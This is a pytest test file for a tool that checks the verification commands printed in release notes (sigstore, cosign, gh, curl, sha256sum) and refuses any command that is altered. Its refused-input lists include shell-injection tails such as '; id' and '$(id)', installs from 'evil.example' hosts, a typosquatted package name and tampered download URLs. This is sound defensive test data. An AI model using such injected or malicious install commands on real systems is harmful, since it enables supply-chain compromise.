"""The commands of the notes: what is understood, what is refused, and that none can be broken unnoticed."""

from __future__ import annotations

import dataclasses
from typing import TYPE_CHECKING

import pytest

from tagseal.errors import VerificationFailed
from tagseal.notes.commands import ExpectedRelease, Use, classify, commands, require_purposes
from tagseal.notes.render import render
from tagseal.records import Artifact, Command, Identity, Phase

if TYPE_CHECKING:
    from collections.abc import Callable, Sequence

    from tagseal.records import Plan

URI = "https://github.com/octo/widget/.github/workflows/release.yml@refs/tags/v1.2.3"
ISSUER = "https://token.actions.githubusercontent.com"
WHEEL, SDIST = "widget-1.2.3-py3-none-any.whl", "widget-1.2.3.tar.gz"
DOWNLOADS = "https://github.com/octo/widget/releases/download/v1.2.3"
SIGSTORE = f"sigstore verify identity --cert-identity {URI} --cert-oidc-issuer {ISSUER}"
COSIGN = f"cosign verify-blob --certificate-identity {URI} --certificate-oidc-issuer {ISSUER}"
COMMIT = "4f2c1e9a0b3d5c7e9f1a2b4c6d8e0f1a3b5c7d9e"
GITHUB = f"sigstore verify github --cert-identity {URI} --repository octo/widget --ref refs/tags/v1.2.3 --sha {COMMIT}"
SOURCE = f"--certificate-github-workflow-repository octo/widget --certificate-github-workflow-sha {COMMIT}"


@pytest.fixture(scope="module")
def expected(artifacts: tuple[Artifact, ...], plan: Callable[..., Plan]) -> ExpectedRelease:
    return ExpectedRelease.of_plan(plan(), "v1.2.3", artifacts)


@pytest.fixture(scope="module")
def printed(artifacts: tuple[Artifact, ...], plan: Callable[..., Plan]) -> tuple[Command, ...]:
    return render(tag="v1.2.3", plan=plan(), artifacts=artifacts, override=None).commands


def draft(text: str) -> Command:
    return Command(phase=Phase.draft, text=text)


def test_commands_come_from_fences_in_order_with_the_phase_of_their_form() -> None:
    """What a command does tells when it runs, and no word on the page; ``text`` and ``json`` blocks are output."""
    page = (
        "```bash\npip install sigstore\n```\n\n- ```bash\n  sha256sum \\\n    -c SHA256SUMS\n  ```\n\n"
        "```text\nOK\n```\n<!-- shown -->\n```bash\ncurl --fail https://example.org\n```\n"
    )
    assert commands(page) == (
        Command(phase=Phase.shown, text="pip install sigstore"),
        Command(phase=Phase.draft, text="sha256sum \\\n  -c SHA256SUMS"),
        Command(phase=Phase.public, text="curl --fail https://example.org"),
    )


def test_commands_of_two_phases_have_a_block_each(expected: ExpectedRelease) -> None:
    """A block runs at one time, as its first command does."""
    (command,) = commands(f"```bash\nsha256sum -c SHA256SUMS\ncurl {DOWNLOADS}/{WHEEL}\n```\n")
    with pytest.raises(VerificationFailed) as refusal:
        classify(command, expected=expected)
    assert refusal.value.slug == "command-wrong-phase"


@pytest.mark.parametrize(
    "block",
    [
        *(f"```{info}\nx\n```\n" for info in ("", "Bash", "sh", "bash draft", "bash shown", "console", "shell draft")),
        "    x\n",
    ],
)
def test_a_code_block_of_another_kind_is_refused(block: str) -> None:
    """Nobody would ever run it, so nobody would notice that it is wrong."""
    with pytest.raises(VerificationFailed) as refusal:
        commands(f"## Verify\n\n{block}")
    assert refusal.value.slug == "notes-unknown-fence"


def test_the_printed_commands_are_understood(printed: Sequence[Command], expected: ExpectedRelease) -> None:
    """Each command of the packaged templates has the purpose that its place in the page promises."""
    purposes = [classify(command, expected=expected) for command in printed]
    assert [(purpose.kind, purpose.tool, purpose.phase) for purpose in purposes] == [
        (Use.install, "pip", Phase.shown),
        (Use.download, "gh", Phase.draft),
        (Use.verify, "sigstore", Phase.draft),
        (Use.verify, "cosign", Phase.draft),
        (Use.download, "gh", Phase.draft),
        (Use.download, "curl", Phase.public),
        (Use.verify, "sigstore", Phase.draft),
        (Use.verify, "cosign", Phase.draft),
        (Use.hash, "sha256sum", Phase.draft),
    ]
    assert [purpose.files for purpose in purposes][1:5] == [
        tuple(name + end for name in (WHEEL, SDIST) for end in ("", ".sigstore.json")),
        (WHEEL, SDIST),
        (WHEEL,),
        tuple(name + end for name in (WHEEL, SDIST, "SHA256SUMS") for end in ("", ".sigstore.json")),
    ]
    assert [purpose.names_commit for purpose in purposes] == [*[False] * 6, True, True, False]


REFUSED = [
    *("true", "echo OK: widget", "FOO=bar gh release download v1.2.3", "gh release view v1.2.3", "python -m sigstore"),
    *(f"{SIGSTORE} {WHEEL}{tail}" for tail in ("; id", " | tee x", " && id", " > x", " $(id)", " `id`", " # x", " &")),
    *(f"{SIGSTORE} {word}" for word in ('"$X"', "*.whl", "~/x", "$HOME", "a\\ b", "'a", "a'b'", "{a,b}", "\t", "!!")),
    *(f"{SIGSTORE} {flag} {WHEEL}" for flag in ("--offline", "-v", "--certificate x", "--staging", "--")),
    f"{SIGSTORE.replace('--cert-identity ', '--cert-identity=')} {WHEEL}",
    f"{COSIGN.replace('identity', 'identity-regexp')} --bundle {WHEEL}.sigstore.json {WHEEL}",
    f"{COSIGN} --insecure-ignore-tlog --bundle {WHEEL}.sigstore.json {WHEEL}",
    f"{COSIGN} --trusted-root x --bundle {WHEEL}.sigstore.json {WHEEL}",
    f"{GITHUB} --bundle {WHEEL}.sigstore.json {WHEEL}",
    f"{GITHUB} --cert-oidc-issuer {ISSUER} {WHEEL}",
    f"{GITHUB} --trigger push {WHEEL}",
    f"{COSIGN} --certificate-github-workflow-ref refs/tags/v1.2.3 --bundle {WHEEL}.sigstore.json {WHEEL}",
    "sha256sum --ignore-missing -c SHA256SUMS",
    "sha256sum --status -c SHA256SUMS",
    f"gh release download v1.2.3 --repo octo/widget --pattern '*.whl' --dir /tmp {WHEEL}",
]


@pytest.mark.parametrize("text", REFUSED)
def test_what_is_not_understood_is_refused(text: str, expected: ExpectedRelease) -> None:
    """Unknown programs and options, and every word that a shell would expand, split or run."""
    with pytest.raises(VerificationFailed) as refusal:
        classify(draft(text), expected=expected)
    assert refusal.value.slug == "command-not-understood"


def test_the_refusal_names_the_word_and_its_command(expected: ExpectedRelease) -> None:
    """A template's author sees which word it was."""
    with pytest.raises(VerificationFailed) as refusal:
        classify(draft("sha256sum -c SHA256SUMS; id"), expected=expected)
    assert refusal.value.what == "the word 'SHA256SUMS;' is not understood: not a plain or single-quoted word"
    assert refusal.value.context == ("in the command 'sha256sum -c SHA256SUMS; id'",)


WRONG = [
    f"{SIGSTORE}x {WHEEL}",
    f"{SIGSTORE.replace('v1.2.3', 'v1.2.4')} {WHEEL}",
    f"{SIGSTORE.replace('octo', 'Octo')} {WHEEL}",
    f"{SIGSTORE} --cert-identity {URI} {WHEEL}",
    f"sigstore verify identity --cert-identity {URI} {WHEEL}",
    f"{SIGSTORE}",
    f"{SIGSTORE} other.whl",
    f"{SIGSTORE} sha256:{'a' * 64}",
    f"{SIGSTORE} --bundle widget-1.2.3.tar.gz.sigstore.json {WHEEL}",
    f"{SIGSTORE} --bundle {WHEEL}.sigstore.json {WHEEL} widget-1.2.3.tar.gz",
    f"{COSIGN} {WHEEL}",
    f"{COSIGN} --bundle widget-1.2.3.tar.gz.sigstore.json {WHEEL}",
    f"{COSIGN} --bundle {WHEEL}.sigstore.json",
    f"cosign verify-blob --certificate-identity {URI} --bundle {WHEEL}.sigstore.json {WHEEL}",
    GITHUB,
    f"{GITHUB} other.whl",
    f"{GITHUB.replace('octo/widget --ref', 'octo/fork --ref')} {WHEEL}",
    f"{GITHUB.replace('--ref refs/tags/v1.2.3', '--ref refs/heads/main')} {WHEEL}",
    f"{GITHUB.replace('v1.2.3 --repository', 'v1.2.4 --repository')} {WHEEL}",
    f"{GITHUB[:-1]} {WHEEL}",
    *(f"{GITHUB.replace(option, '')} {WHEEL}" for option in (" --repository octo/widget", f" --sha {COMMIT}")),
    f"{GITHUB.replace(' --ref refs/tags/v1.2.3', '')} {WHEEL}",
    f"{GITHUB.replace(COMMIT, '')}'' {WHEEL}",
    f"{COSIGN} {SOURCE[:-1]} --bundle {WHEEL}.sigstore.json {WHEEL}",
    f"{COSIGN} {SOURCE.replace('octo', 'evil')} --bundle {WHEEL}.sigstore.json {WHEEL}",
    *(f"{COSIGN} {part} --bundle {WHEEL}.sigstore.json {WHEEL}" for part in (SOURCE[:53], SOURCE[53:])),
    "gh release download --repo octo/widget",
    "gh release download v1.2.3",
    "gh release download v1.2.3 v1.2.3 --repo octo/widget",
    "gh release download v1.2.2 --repo octo/widget",
    "gh release download v1.2.3 --repo octo/other",
    "gh release download v1.2.3 --repo octo/widget",
    "gh release download v1.2.3 --repo octo/widget --skip-existing",
    "gh release download v1.2.3 --repo octo/widget --pattern '*.whl'",
    "gh release download v1.2.3 --repo octo/widget -p '*'",
    f"gh release download v1.2.3 --repo octo/widget -p {WHEEL} -p pip.py",
    "gh release download v1.2.3 --repo octo/widget --pattern",
    "sha256sum SHA256SUMS",
    "sha256sum -c",
    "sha256sum -c OTHER",
]


@pytest.mark.parametrize("text", WRONG)
def test_a_word_that_was_not_planned_is_refused(text: str, expected: ExpectedRelease) -> None:
    """Another identity, issuer, tag, repository, bundle or file, or none."""
    with pytest.raises(VerificationFailed) as refusal:
        classify(draft(text), expected=expected)
    assert refusal.value.slug == "command-wrong-word"


@pytest.mark.parametrize(
    "text",
    [
        f"curl --fail --remote-name-all {DOWNLOADS}/{WHEEL}",
        f"curl --location --remote-name-all {DOWNLOADS}/{WHEEL}",
        f"curl --fail --location {DOWNLOADS}/{WHEEL}",
        "curl --fail --location --remote-name-all",
        f"curl --fail --location --remote-name-all {DOWNLOADS.replace('https', 'http')}/{WHEEL}",
        f"curl --fail --location --remote-name-all {DOWNLOADS.replace('v1.2.3', 'latest')}/{WHEEL}",
        f"curl --fail --location --remote-name-all {DOWNLOADS.replace('github.com', 'github.com.example')}/{WHEEL}",
        f"curl --fail --location --remote-name-all {DOWNLOADS}/{WHEEL}%3Fx",
        f"curl --fail --location --remote-name-all {DOWNLOADS}/other.whl",
        f"curl --fail --location --remote-name-all {DOWNLOADS}/../{WHEEL}",
    ],
)
def test_a_plain_url_is_exactly_the_assets(text: str, expected: ExpectedRelease) -> None:
    """It cannot be tried before the release is public, so nothing about it is left to trial."""
    with pytest.raises(VerificationFailed) as refusal:
        classify(Command(phase=Phase.public, text=text), expected=expected)
    assert refusal.value.slug == "command-wrong-word"


@pytest.mark.parametrize(
    "text",
    [
        "pip install sigstroe",
        "pip install 'sigstore @ https://evil.example/sigstore.whl'",
        "go install github.com/sigstore/cosign/v3/cmd/cosign",
        "pip install --index-url https://evil.example sigstore",
        "pip install cosign",
        "brew install evil/tap/cosign",
        "go install github.com/evil/cosign/v3/cmd/cosign@latest",
    ],
)
def test_an_installation_names_a_tool_of_the_notes(text: str, expected: ExpectedRelease) -> None:
    """Nobody executes an installation before its readers do, so each of its words is a known one."""
    with pytest.raises(VerificationFailed) as refusal:
        classify(Command(phase=Phase.shown, text=text), expected=expected)
    assert refusal.value.slug == "command-wrong-word"


@pytest.mark.parametrize(
    "text",
    [
        "python -m pip install sigstore",
        "python3 -m pip install sigstore",
        "python3.12 -Im pip install sigstore",
        "python -c 'import sigstore'",
        "python verify.py",
        "py -m pip install sigstore",
        "python",
    ],
)
def test_python_is_not_started_in_a_folder_of_downloads(text: str, expected: ExpectedRelease) -> None:
    """It looks for modules there before anywhere else: an asset called pip.py would run."""
    with pytest.raises(VerificationFailed) as refusal:
        classify(Command(phase=Phase.shown, text=text), expected=expected)
    assert refusal.value.what.endswith(
        "it looks for modules in this folder first, so it may run what was only downloaded; write `pip install`"
    )
    assert refusal.value.slug == "command-not-understood"


@pytest.mark.parametrize(
    ("line", "refused"),
    [
        ("Or run `python -m sigstore` in its place.", True),
        ("If that fails: python3 -m venv venv", True),
        ("    python3.12\t-c 'import this'", True),
        ("`python -v -m pip`", True),
        ("`python check.py`", True),
        ("`py -3 -m pip`, or `pypy3 -m pip`", True),
        ("`python3 -I -m venv venv && . venv/bin/activate`", False),
        ("`python -Pm pip` and `python3 -P check.py`", False),
        ("You need Python, or python-sigstore -m; then `sigstore-python -m`.", False),
    ],
)
def test_no_words_beside_the_commands_start_python_there_either(line: str, *, refused: bool) -> None:
    """A reader copies them as well; isolated, it does not look there."""
    page = f"## Verify\n\n{line}\n\n```bash\nsha256sum -c SHA256SUMS\n```\n"
    if not refused:
        assert commands(page) == (draft("sha256sum -c SHA256SUMS"),)
        return
    with pytest.raises(VerificationFailed) as refusal:
        commands(page)
    assert refusal.value.slug == "command-not-understood"


@pytest.mark.parametrize("phase", list(Phase))
def test_a_command_runs_in_the_phase_that_its_form_has(phase: Phase, expected: ExpectedRelease) -> None:
    """A verification that is only shown, or a plain URL before publishing, is refused."""
    for text, right in (
        (f"{SIGSTORE} {WHEEL}", Phase.draft),
        (f"curl --fail --location --remote-name-all {DOWNLOADS}/{WHEEL}", Phase.public),
        ("pipx install sigstore", Phase.shown),
    ):
        command = Command(phase=phase, text=text)
        if phase is right:
            assert classify(command, expected=expected).phase is phase
            continue
        with pytest.raises(VerificationFailed) as refusal:
            classify(command, expected=expected)
        assert refusal.value.slug == "command-wrong-phase"


def test_one_block_is_of_one_kind(expected: ExpectedRelease) -> None:
    """Several lines may follow each other in a block, each of the same tool for the same use; an empty one is none."""
    both = draft(f"{SIGSTORE} {WHEEL}\n\n{SIGSTORE} SHA256SUMS")
    assert classify(both, expected=expected).files == (WHEEL, "SHA256SUMS")
    mixed = (f"{SIGSTORE} {WHEEL}\nsha256sum -c SHA256SUMS", f"{SIGSTORE} {WHEEL}\n{GITHUB} {WHEEL}")
    for text in (*mixed, "", "\n"):
        with pytest.raises(VerificationFailed) as refusal:
            classify(draft(text), expected=expected)
        assert refusal.value.slug == "command-mixed"


def test_a_tag_with_a_slash_is_quoted_in_the_plain_url() -> None:
    """``lib/v1`` is one segment of the path; a plus sign stays, for it is itself in a path."""
    identity = Identity(repository="octo/widget", workflow=".github/workflows/release.yml", ref="refs/tags/lib/v1+x")
    expected = ExpectedRelease.of(identity, "lib/v1+x", ())
    assert expected.url("a+b.whl") == "https://github.com/octo/widget/releases/download/lib%2Fv1+x/a+b.whl"


@pytest.mark.parametrize(
    ("left_out", "line"),
    [
        (1, f"{WHEEL}: sigstore reads it above its download"),
        (4, "SHA256SUMS: no download before it is public"),
        (5, f"{WHEEL}: no download by plain URL"),
        (6, f"{WHEEL}: no sigstore command that names the commit"),
        (6, "SHA256SUMS: no sigstore command"),
        (7, f"{WHEEL}: no cosign command that names the commit"),
        (7, f"{SDIST}: no cosign command"),
        (8, f"{WHEEL}: no check of its hash"),
    ],
)
def test_instructions_that_leave_something_out_are_refused(
    left_out: int,
    line: str,
    printed: tuple[Command, ...],
    expected: ExpectedRelease,
    artifacts: tuple[Artifact, ...],
) -> None:
    """Every artifact is downloaded in both ways, verified by both tools, its commit too, and hashed."""
    fewer = printed[:left_out] + printed[left_out + 1 :]
    with pytest.raises(VerificationFailed) as refusal:
        require_purposes(fewer, expected, artifacts)
    assert refusal.value.slug == "instructions-incomplete"
    assert line in refusal.value.context


def test_a_verified_list_of_hashes_covers_the_files_in_it(
    printed: tuple[Command, ...], expected: ExpectedRelease, artifacts: tuple[Artifact, ...]
) -> None:
    """Cosign may verify `SHA256SUMS` alone, if a command holds every file against it; the list itself is in none."""
    block = f"{COSIGN} {SOURCE} --bundle {{0}}.sigstore.json {{0}}"
    listed, other = (draft(block.format(name)) for name in ("SHA256SUMS", SDIST))
    without, hashes = (*printed[:3], *printed[4:7]), printed[8]
    assert require_purposes((*without, listed, hashes), expected, artifacts)
    for rest in ((listed,), (other, hashes)):
        with pytest.raises(VerificationFailed) as refusal:
            require_purposes((*without, *rest), expected, artifacts)
        assert f"{WHEEL}: no cosign command" in refusal.value.context


def test_everything_that_is_left_out_is_listed(expected: ExpectedRelease, artifacts: tuple[Artifact, ...]) -> None:
    """All at once, not one a run."""
    with pytest.raises(VerificationFailed) as refusal:
        require_purposes((), expected, artifacts[:1])
    assert refusal.value.context == (
        f"{WHEEL}: no download before it is public",
        f"{WHEEL}.sigstore.json: no download before it is public",
        f"{WHEEL}: no download by plain URL",
        f"{WHEEL}.sigstore.json: no download by plain URL",
        f"{WHEEL}: no sigstore command",
        f"{WHEEL}: no cosign command",
        f"{WHEEL}: no check of its hash",
    )


def _mutations(command: Command) -> list[tuple[str, str]]:
    """Return each way in which the command can be broken, and its text then."""
    text = command.text
    rest = text.partition(" ")[2]
    broken = [("program true", f"true {rest}"), ("program echo", f"echo {rest}"), ("appended", f"{text} || true")]
    broken += [(f"without {word}", text.replace(f" {word}", "", 1)) for word in dict.fromkeys(text.split()[1:])]
    for what, old, new in (
        ("file", "widget-1.2.3", "widget-1.2.4"),
        ("hash list", "SHA256SUMS", "SHA512SUMS"),
        ("identity", "release.yml@", "other.yml@"),
        ("tag", "refs/tags/v1.2.3", "refs/tags/v1.2.4"),
        ("branch", "refs/tags/v1.2.3", "refs/heads/main"),
        ("issuer", "token.actions", "token.other"),
        ("repository", "octo/widget", "octo/gadget"),
        ("url", "https://github.com/", "http://github.com/"),
        ("host", "https://github.com/", "https://github.example/"),
        ("suffix", ".sigstore.json", ".sigstore"),
        ("glob", "widget-1.2.3-py3-none-any.whl", "'*.whl'"),
        ("regexp", "--certificate-identity", "--certificate-identity-regexp"),
        ("redirect", "--location", "--location > /dev/null"),
        ("quiet", "-c ", "--status -c "),
        ("commit", COMMIT, "0" * 40),
        ("source", "repository octo/widget", "repository octo/gadget"),
    ):
        broken.append((what, text.replace(old, new, 1)))
    return [(what, changed) for what, changed in broken if changed != text]


# Found by execution, not here: gh stops at a file that exists.
BY_EXECUTION = {"without --skip-existing"}


@pytest.mark.parametrize("index", range(9))
def test_breaking_any_command_is_noticed_before_it_runs(
    index: int, printed: tuple[Command, ...], expected: ExpectedRelease, artifacts: tuple[Artifact, ...]
) -> None:
    """Each command of the packaged templates, broken in each way, is refused by its words alone."""
    unnoticed = []
    for what, text in _mutations(printed[index]):
        broken = list(printed)
        broken[index] = dataclasses.replace(printed[index], text=text)
        try:
            require_purposes(broken, expected, artifacts)
        except VerificationFailed:
            continue
        unnoticed.append(what)
    assert [what for what in unnoticed if what not in BY_EXECUTION] == []
